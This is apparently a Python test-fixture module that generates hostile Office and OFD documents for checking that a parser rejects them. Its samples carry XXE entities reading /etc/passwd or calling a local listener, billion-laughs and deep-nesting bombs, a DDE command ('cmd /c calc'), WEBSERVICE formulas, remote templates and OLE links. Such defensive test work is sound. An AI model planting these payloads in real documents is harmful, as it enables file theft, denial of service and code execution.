"""Office and OFD files that would read or call something else: entities, links, templates, macros."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial

from samples.hostile.office import (
    docx_parts,
    drawing_parts,
    ofd_parts,
    packed,
    paragraph,
    relations,
    shown,
    xlsx_parts,
)
from samples.hostile.sample import PAGES, Sample

_LISTENER = "http://127.0.0.1:{port}/"
_READ = ("document.xml", "sheet1.xml", "Content.xml")
_DTDS = {
    "file": '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "http": f'<!DOCTYPE d [<!ENTITY x SYSTEM "{_LISTENER}">]>',
    "parameter": f'<!DOCTYPE d [<!ENTITY % x SYSTEM "{_LISTENER}"> %x;]>',
    "laughs": '<!DOCTYPE d [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>",
}


def catalogue(port: int = 9) -> Iterator[Sample]:
    """The samples; what calls home calls that port of this machine."""
    yield from _entities(port)
    yield from _ways_out(port)


def _entities(port: int) -> Iterator[Sample]:
    for name, dtd in _DTDS.items():
        for kind in (docx_parts(paragraph("&x;")), xlsx_parts([["a"]]), ofd_parts([("a", 20, 20)])):
            target = next(part for part in kind if part.endswith(_READ))
            text = str(kind[target]).replace("?>", "?>" + dtd.replace("{port}", str(port)), 1)
            parts = kind | {target: text}
            suffix = {"w": "docx", "x": "xlsx", "D": "ofd"}[target[0]]
            yield Sample("F20", f"{name}.{suffix}", partial(packed, parts), ("XML_FORBIDDEN",))
    plain = str(docx_parts("")["word/document.xml"])
    wide = plain.replace("?>", "?>" + _DTDS["file"]).replace("UTF-8", "UTF-16")
    hidden = docx_parts("") | {"word/document.xml": wide.encode("utf-16")}
    yield Sample("F20", "in UTF-16.docx", lambda: packed(hidden), ("XML_FORBIDDEN",))
    deep = docx_parts("<w:p>" * 100_000 + "</w:p>" * 100_000)
    yield Sample("F20", "100000 deep.docx", lambda: packed(deep), ("XML_FORBIDDEN",))


def _ways_out(port: int) -> Iterator[Sample]:
    home = _LISTENER.format(port=port)
    outside = docx_parts(shown("r1") + paragraph("a"))
    relation = f'<Relationship Id="r1" Type="image" Target="{home}" TargetMode="External"/></Relationships>'
    rels = str(outside["word/_rels/document.xml.rels"]).replace("</Relationships>", relation)
    parts = outside | {"word/_rels/document.xml.rels": rels}
    yield Sample("F21", "external photo.docx", lambda: packed(parts), (PAGES,))
    calls = xlsx_parts([[f'=WEBSERVICE("{home}")'.replace('"', "&quot;"), "=cmd|'/c calc'!A0"]])
    yield Sample("F21", "formulas.xlsx", lambda: packed(calls), (PAGES,))
    yield Sample("F21", "template.docx", partial(packed, _with_template(home)), (PAGES,))
    field = f'<w:p><w:fldSimple w:instr=" DDEAUTO &quot;{home}&quot; a "/></w:p>' + paragraph("a")
    yield Sample("F21", "dde.docx", partial(packed, docx_parts(field)), (PAGES,))
    linked = '<w:p><w:r><w:object><o:OLEObject xmlns:o="o" Type="Link" r:id="r1"/></w:object></w:r></w:p>'
    ole = parts | {"word/document.xml": docx_parts(linked + paragraph("a"))["word/document.xml"]}
    yield Sample("F21", "ole link.docx", partial(packed, ole), (PAGES,))
    yield Sample("F21", "drawing.docx", partial(packed, drawing_parts(home)), (PAGES, "EMPTY_DOCUMENT"))
    macros = docx_parts(paragraph("a")) | {"word/vbaProject.bin": b"macro"}
    yield Sample("F21", "macros.docx", lambda: packed(macros), (PAGES,))


def _with_template(home: str) -> dict[str, str | bytes]:
    """A document that asks for its template elsewhere."""
    rels = relations({"r1": f"{home}a.dotm"}, 'TargetMode="External"').replace("/image", "/attachedTemplate")
    settings = '<w:settings xmlns:w="w" xmlns:r="r"><w:attachedTemplate r:id="r1"/></w:settings>'
    parts = {"word/settings.xml": settings, "word/_rels/settings.xml.rels": rels}
    return docx_parts(paragraph("a")) | parts
